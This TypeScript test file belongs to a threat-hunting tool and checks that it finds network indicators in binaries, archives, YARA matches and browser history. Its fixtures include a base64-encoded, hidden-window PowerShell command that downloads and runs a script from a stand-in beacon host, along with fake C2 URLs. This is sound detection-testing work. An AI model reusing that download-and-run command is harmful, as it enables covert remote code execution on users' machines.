import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { hasTool } from '../../../test/helpers/triage-reference.js';
import { mulberry32 } from '../../util/prng.js';
import { hunt } from '../index.js';
import { renderHuman } from '../output/render.js';
import { RunExtractor } from './binary-strings.js';

/** Deterministic non-text filler (no printable runs of four). */
function filler(n: number, seed: number): Buffer {
  const rnd = mulberry32(seed);
  const b = Buffer.alloc(n);
  for (let i = 0; i < n; i++) b[i] = i % 3 === 0 ? 0x01 + Math.floor(rnd() * 30) : 0x80 + Math.floor(rnd() * 127);
  return b;
}

const runsOf = (b: Buffer, size: number): string[] => {
  const ex = new RunExtractor();
  const out: string[] = [];
  for (let i = 0; i < b.length; i += size) for (const r of ex.push(b.subarray(i, i + size), false)) out.push(`${r.file} ${r.wide ? 'W' : 'A'} ${r.s}`);
  for (const r of ex.push(Buffer.alloc(0), true)) out.push(`${r.file} ${r.wide ? 'W' : 'A'} ${r.s}`);
  return out;
};

describe('encoded PowerShell commands in binaries', () => {
  it('are swept when a shortcut holds one without a dot before its base64 (UTF-16), or an ASCII string names powershell.exe', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pillbox-enc-'));
    try {
      const b64 = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://update-cdn.kx-beacon.org/a.ps1')", 'utf16le').toString('base64');
      const args = `-w hidden -enc ${b64}`;
      // A shortcut's header (binary, not UTF-16 text), then its arguments in UTF-16.
      writeFileSync(join(dir, 'wide.lnk'), Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), filler(68, 7), Buffer.from(args, 'utf16le'), filler(16, 8)]));
      writeFileSync(join(dir, 'ascii.bin'), Buffer.concat([filler(40, 9), Buffer.from(`powershell.exe ${args}`, 'latin1'), filler(16, 10)]));
      writeFileSync(join(dir, 'intel.txt'), 'kx-beacon.org\n');
      const r = await hunt({ intel: [join(dir, 'intel.txt')], targets: [join(dir, 'wide.lnk'), join(dir, 'ascii.bin')], threads: 1 });
      expect(r.hits.map((h) => [h.file.slice(dir.length + 1), h.field, h.offset, h.match])).toEqual([
        ['wide.lnk', 'strings (UTF-16)', 76 + 2 * args.indexOf(b64), 'subdomain'],
        ['ascii.bin', 'strings', 40 + `powershell.exe ${args}`.indexOf(b64), 'subdomain'],
      ]);
      expect(r.hits[0]!.context).toContain('DownloadString');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('strings of binaries', () => {
  it('are ASCII and UTF-16LE runs (both alignments) that may hold an indicator, each once with its file offset, however the bytes are cut', () => {
    const b = Buffer.concat([
      filler(10, 1), Buffer.from('abc'), filler(5, 2), Buffer.from('evil-c2.example.net'), filler(3, 3),
      Buffer.from('\0'), Buffer.from('wide.string.one', 'utf16le'), filler(4, 4), Buffer.from('justaword'), filler(2, 5),
      Buffer.from('ops@x.io'), filler(2, 6), Buffer.from('at@only'),
    ]);
    const whole = runsOf(b, b.length);
    // Short runs and runs that cannot hold a network indicator (no `.` or `:`) are left out.
    expect(whole).toEqual(['18 A evil-c2.example.net', '41 W wide.string.one', '86 A ops@x.io']);
    for (const size of [1, 2, 3, 7, 16]) expect(runsOf(b, size)).toEqual(whole);
  });

  it('are those a plain scan of every byte finds, on random bytes with planted strings', () => {
    const printable = (c: number): boolean => c >= 0x20 && c < 0x7f;
    const worth = (x: string): boolean => x.length >= 32 || /[.:]/.test(x);
    const naive = (b: Buffer): string[] => {
      const out: [number, string][] = [];
      for (let i = 0; i < b.length; ) {
        if (!printable(b[i]!)) { i++; continue; }
        let e = i;
        while (e < b.length && printable(b[e]!)) e++;
        if (e - i >= 4 && worth(b.toString('latin1', i, e))) out.push([i, `${i} A ${b.toString('latin1', i, e)}`]);
        i = e;
      }
      for (const par of [0, 1]) {
        for (let i = par; i + 1 < b.length; ) {
          if (!(printable(b[i]!) && b[i + 1] === 0)) { i += 2; continue; }
          let e = i;
          let str = '';
          while (e + 1 < b.length && printable(b[e]!) && b[e + 1] === 0) { str += String.fromCharCode(b[e]!); e += 2; }
          if (str.length >= 4 && worth(str)) out.push([i, `${i} W ${str}`]);
          i = e;
        }
      }
      return out.sort((x, y) => x[0] - y[0]).map((x) => x[1]);
    };
    const rnd = mulberry32(42);
    const words = ['a.bc', 'x@y.z', 'host.example.net', 'ab:cd', '10.1.2.3', 'nodots', 'e'.repeat(40)];
    for (let k = 0; k < 40; k++) {
      const parts: Buffer[] = [];
      for (let j = 0; j < 30; j++) {
        parts.push(filler(Math.floor(rnd() * 9), 100 + k * 31 + j));
        const w = words[Math.floor(rnd() * words.length)]!;
        parts.push(rnd() < 0.5 ? Buffer.from(w) : Buffer.from(w, 'utf16le'));
      }
      const b = Buffer.concat(parts);
      const want = naive(b);
      for (const size of [b.length, 1, 5, 64]) expect(runsOf(b, size), `case ${k}, pieces of ${size}`).toEqual(want);
    }
  });

  const dir = mkdtempSync(join(tmpdir(), 'pillbox-strings-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('are swept by hunt for network indicators only (not for file names, paths or registry keys)', async () => {
    const implant = Buffer.concat([
      filler(70000, 5), Buffer.from('cfg=wss://cdn-sync.telemetry-eu.net:443/ws\0'), filler(300000, 6),
      Buffer.from('http://185.220.101.47/gate.php\0', 'utf16le'), Buffer.from('C:\\Windows\\System32\\svchost.exe\0'),
      Buffer.from('Software\\Microsoft\\Windows\\CurrentVersion\\Run\0'), filler(5000, 7),
    ]);
    writeFileSync(join(dir, 'implant.bin'), implant);
    writeFileSync(join(dir, 'intel.txt'), 'telemetry-eu.net\n185.220.101.47\nsvchost.exe\nHKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n');
    const r = await hunt({ intel: [join(dir, 'intel.txt')], targets: [join(dir, 'implant.bin')], threads: 1 });
    expect(r.hits.map((h) => `${h.indicator} ${h.field} ${h.offset} ${h.line} ${h.context}`)).toEqual([
      `telemetry-eu.net strings ${70000 + 10} null cfg=wss://cdn-sync.telemetry-eu.net:443/ws`,
      `185.220.101.47 strings (UTF-16) ${70000 + 43 + 300000 + 14} null http://185.220.101.47/gate.php`,
    ]);
    // The summary gives a string's offset, not "file".
    expect(renderHuman(r, false)).toContain(`offset ${70000 + 10} strings: telemetry-eu.net (subdomain)  cfg=wss://`);
    // --no-strings: only named and hashed.
    const off = await hunt({ intel: [join(dir, 'intel.txt')], targets: [join(dir, 'implant.bin')], threads: 1, binaryStrings: false });
    expect(off.hits).toEqual([]);
  });

  it('are swept inside archives too (a ZIP read whole, a TAR streamed)', async () => {
    const implant = Buffer.concat([filler(2000, 8), Buffer.from('c2=beacon.kp-cdn-sync.net\0'), filler(2000, 9)]);
    const sub = join(dir, 'arc');
    execFileSync('mkdir', ['-p', sub]);
    writeFileSync(join(sub, 'svc.bin'), implant);
    execFileSync('zip', ['-q', join(dir, 'c.zip'), 'svc.bin'], { cwd: sub });
    execFileSync('tar', ['-cf', join(dir, 'c.tar'), '-C', sub, 'svc.bin']);
    writeFileSync(join(dir, 'intel3.txt'), 'kp-cdn-sync.net\n');
    const r = await hunt({ intel: [join(dir, 'intel3.txt')], targets: [join(dir, 'c.zip'), join(dir, 'c.tar')], threads: 1 });
    expect(r.hits.map((h) => `${h.file.slice(dir.length + 1)} ${h.field} ${h.offset}`)).toEqual(['c.zip!/svc.bin strings 2003', 'c.tar!/svc.bin strings 2003']);
  });

  it('YARA rules run on the members of streamed archives too (a TAR, a .tar.gz)', async () => {
    const sub = join(dir, 'yara');
    execFileSync('mkdir', ['-p', sub]);
    writeFileSync(join(sub, 'loader.bin'), Buffer.concat([filler(3000, 12), Buffer.from('KP-LOADER-MARK-7'), filler(3000, 13)]));
    writeFileSync(join(sub, 'clean.bin'), filler(5000, 14));
    execFileSync('tar', ['-cf', join(dir, 'y.tar'), '-C', sub, 'loader.bin', 'clean.bin']);
    execFileSync('tar', ['-czf', join(dir, 'y.tar.gz'), '-C', sub, 'loader.bin', 'clean.bin']);
    writeFileSync(join(dir, 'k.yar'), 'rule KeyPlug_Loader_Marker { strings: $m = "KP-LOADER-MARK-7" condition: $m }\n');
    const r = await hunt({ intel: [join(dir, 'k.yar')], targets: [join(dir, 'y.tar'), join(dir, 'y.tar.gz')], threads: 1 });
    // The plain TAR matches as a file too (its bytes hold the member's); the gzipped one only through its member.
    expect(r.hits.map((h) => `${h.file.slice(dir.length + 1)} ${h.indicator} ${h.offset}`)).toEqual([
      'y.tar!/loader.bin KeyPlug_Loader_Marker 3000', 'y.tar KeyPlug_Loader_Marker 3512', 'y.tar.gz!/loader.bin KeyPlug_Loader_Marker 3000',
    ]);
  });

  it('find a visited address in a browser history database (SQLite)', { skip: !hasTool('python3') }, async () => {
    const db = join(dir, 'History');
    execFileSync('python3', ['-c', [
      'import sqlite3, sys',
      'c = sqlite3.connect(sys.argv[1])',
      'c.execute("create table urls (id integer primary key, url text, title text, visit_count integer)")',
      'c.executemany("insert into urls (url, title, visit_count) values (?, ?, ?)", [("https://intranet.plant.example/", "Intranet", 40), ("http://upd.kp-cdn-sync.net/x86", "", 1), ("https://www.example.org/news", "News", 3)])',
      'c.commit()',
    ].join('\n'), db]);
    writeFileSync(join(dir, 'intel2.txt'), 'http://upd.kp-cdn-sync.net/x86\n');
    const r = await hunt({ intel: [join(dir, 'intel2.txt')], targets: [db], threads: 1 });
    // The URL's bytes run into the next record's in the page, so its host is the hit (url-host).
    const [hit, ...more] = r.hits;
    expect(more).toEqual([]);
    expect(hit).toMatchObject({ indicator: 'http://upd.kp-cdn-sync.net/x86', field: 'strings' });
    expect(hit!.match === 'url' || hit!.match === 'url-host').toBe(true);
    expect(hit!.context).toContain('http://upd.kp-cdn-sync.net/x86');
  });
});
